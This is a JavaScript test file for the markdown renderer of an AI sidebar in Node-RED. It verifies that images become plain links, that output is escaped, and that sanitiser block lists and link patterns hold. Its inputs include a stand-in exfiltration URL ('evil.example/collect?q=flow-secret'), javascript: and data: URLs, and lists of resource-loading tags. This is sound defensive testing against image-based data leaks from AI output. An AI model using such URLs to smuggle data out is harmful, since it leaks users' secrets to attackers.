"use strict";

const assert = require("assert");
const fs = require("fs");
const path = require("path");
const vm = require("vm");
const markdown = require("../resources/shared/markdown");

const packageRoot = path.join(__dirname, "..");

/** The vendored marked as the editor runs it: a plain script in a window of its own. */
function loadVendoredMarked() {
    const window = {};
    window.self = window;
    vm.createContext(window);
    vm.runInContext(fs.readFileSync(path.join(packageRoot, "resources", "vendor", "marked.js"), "utf8"), window,
        { filename: "resources/vendor/marked.js" });
    return window.NodeRedAiSidebar.vendor.marked;
}

function imageLabel(alt) {
    return alt ? "[image: " + alt + "]" : "[image]";
}

describe("answer markdown", function () {
    const parser = markdown.createMarked(loadVendoredMarked(), imageLabel);

    it("turns a markdown image into a link labelled with its alt text, never an <img>", function () {
        const html = parser.parse("See ![sales chart](https://evil.example/collect?q=flow-secret \"Chart\").");
        assert.doesNotMatch(html, /<img/i);
        assert.match(html,
            /<a href="https:\/\/evil\.example\/collect\?q=flow-secret" [^>]*>\[image: sales chart\]<\/a>/);
    });

    it("turns an image whose URL is not http(s) into its label alone", function () {
        ["relative.png", "/admin/flows", "//evil.example/x.png", "javascript:alert(1)",
            "data:image/png;base64,iVBORw0KGgo=", "mailto:someone@example.com"].forEach(function (url) {
            const html = parser.parse("![pic](" + url + ")");
            assert.doesNotMatch(html, /<img|<a /i, url);
            assert.match(html, /\[image: pic\]/, url);
        });
        assert.match(parser.parse("![](https://example.com/a.png)"), />\[image\]<\/a>/);
    });

    it("escapes an image's alt text and URL", function () {
        const html = markdown.imageHtml({ href: "https://example.com/?a=1&b=\"2\"", text: "<b onclick=x>" },
            imageLabel);
        assert.strictEqual(html, "<a href=\"https://example.com/?a=1&amp;b=&quot;2&quot;\" " +
            "title=\"https://example.com/?a=1&amp;b=&quot;2&quot;\">[image: &lt;b onclick=x&gt;]</a>");
    });

    it("keeps no element or attribute that loads something in the sanitiser's configuration", function () {
        const config = markdown.SANITIZE_CONFIG;
        ["img", "picture", "source", "video", "audio", "track", "iframe", "frame", "object", "embed", "link",
            "style", "script", "svg", "image", "math", "form", "base", "meta", "template"].forEach(function (tag) {
            assert.ok(config.ALLOWED_TAGS.indexOf(tag) === -1, tag);
        });
        ["src", "srcset", "style", "background", "poster", "data", "action", "formaction", "xlink:href", "ping",
            "lowsrc", "dynsrc", "id", "name"].forEach(function (attribute) {
            assert.ok(config.ALLOWED_ATTR.indexOf(attribute) === -1, attribute);
        });
        assert.strictEqual(config.ALLOW_DATA_ATTR, false);
    });

    it("lets links point only to http(s) and mailto", function () {
        ["https://nodered.org/docs/", "http://localhost:1880/", "mailto:team@example.com", "HTTPS://EXAMPLE.COM"]
            .forEach(function (url) {
                assert.ok(markdown.LINK_PATTERN.test(url), url);
            });
        ["javascript:alert(1)", "data:text/html,x", "relative/path", "/admin/flows", "//evil.example/",
            "ftp://example.com/", "#top", "vbscript:x"].forEach(function (url) {
            assert.ok(!markdown.LINK_PATTERN.test(url), url);
        });
    });
});
